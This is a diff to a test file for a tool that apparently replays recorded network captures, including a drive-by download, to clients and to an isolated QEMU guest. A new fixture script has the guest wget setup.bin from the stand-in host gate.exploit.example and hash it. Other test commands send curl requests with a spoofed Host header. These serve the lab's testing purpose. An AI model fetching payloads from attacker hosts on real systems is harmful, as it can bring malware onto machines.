@@ -20,8 +20,8 @@ TRUTH = list(csv.DictReader(open(TMP / "truth.tsv"), delimiter="\t"))
 visits = []
 
 
-def visit(*options):
-    return lab.run(PLAIN, *options, CAPTURE)
+def visit(*options, **more):
+    return lab.run(PLAIN, *options, CAPTURE, **more)
 
 
 def first():
@@ -192,13 +192,14 @@ def test_p33_connectivity_checks():
 def test_p42_the_clients_own():
     """Counted apart, and no part of what had no recorded answer."""
     found = lab.run(PLAIN, "--no-supplement", "--exec",
-                    "curl -s -H 'Host: ocsp.digicert.com' "
-                    "http://www.landing.example/MEow; "
+                    "curl -s -H 'Host: ocsp.digicert.com' -d 0 -H "
+                    "Content-Type:application/ocsp-request "
+                    "http://www.landing.example/; "
                     "curl -s http://www.landing.example/nothing",
                     CAPTURE)
     rows = {v["url"]: v["by_client_itself"] for v in
             lines(found, "exchange") if v["result"] == "not-recorded"}
-    same(rows, {"http://ocsp.digicert.com/MEow": True,
+    same(rows, {"http://ocsp.digicert.com/": True,
                 "http://www.landing.example/nothing": False}, "requests")
     true(found.lines[-1].endswith(" 1 requests had no recorded answer"),
          found.lines[-1])
@@ -226,6 +227,44 @@ def test_shown_on_a_display():
     return None
 
 
+TASK = """
+say "sum: $(wget -q -O - http://gate.exploit.example:8080/load/setup.bin |
+    sha256sum | cut -c1-64)"
+echo made > /share/made.txt
+"""
+
+
+def test_a_machine():
+    """The tests' own Linux guest, from DHCP to what it leaves on its disk."""
+    if not shutil.which("qemu-system-x86_64"):
+        return "QEMU is not installed"
+    image = PLAIN / "guest/guest.qcow2"
+    if not image.exists():
+        image.parent.mkdir(exist_ok=True)
+        if subprocess.run([lab.TOP / "tests/lab/guest", image]).returncode:
+            return "the guest cannot be built here"
+    before = lab.digest(image)
+    share = TMP / "share"
+    share.mkdir()
+    (share / "task.sh").write_text(TASK)
+    truth = TMP / "drive-by.tsv"
+    capture = lab.make(PLAIN, "drive-by", "--truth", str(truth))
+    found = lab.run(PLAIN, "--vm", image, "--share", share, "--time", "300",
+                    capture)
+    said = found.text("console.txt")
+    want = next(line.split("\t") for line in truth.read_text().splitlines()
+                if "GET" in line and "setup.bin" in line)[7]
+    true("guest: clock: 2017-03-14T10:1" in said, said)
+    true("guest: address: 10.66.0.2" in said, said)
+    true(f"guest: sum: {want}" in said, said)
+    same(found.text("share/made.txt"), "made\n", "what it left")
+    same([r["result"] for r in found.rows() if r["target"]
+          == "/load/setup.bin" and r["method"] == "GET"], ["same"], "result")
+    same(lab.digest(image), before, "the image")
+    same(found.facts["image"]["sha256"], before, "the image in run.json")
+    return None
+
+
 def test_trouble():
     """Plain words and a status, never a traceback."""
     empty = TMP / "empty.pcap"
@@ -233,6 +272,7 @@ def test_trouble():
     for arguments, words in (
             ([empty], "not a capture"), ([TMP / "none.pcap"], "no such file"),
             (["--client", "netscape", CAPTURE], "no client netscape"),
+            (["--vm", TMP / "none.qcow2", CAPTURE], "no such file"),
             (["--rules", TMP / "none.conf", CAPTURE], "no such file")):
         result = lab.Result(lab.start(
             PLAIN, "--runs", TMP / "trouble", *arguments), None)
@@ -248,4 +288,4 @@ run([test_all_of_it_comes_back, test_what_is_kept, test_the_download,
      test_again_with_another_capture, test_matrix, test_recorded_user_agent,
      test_rules, test_the_default_rules, test_p33_connectivity_checks,
      test_p42_the_clients_own, test_p30_nothing_stays_in_the_client,
-     test_shown_on_a_display, test_trouble])
+     test_shown_on_a_display, test_a_machine, test_trouble])
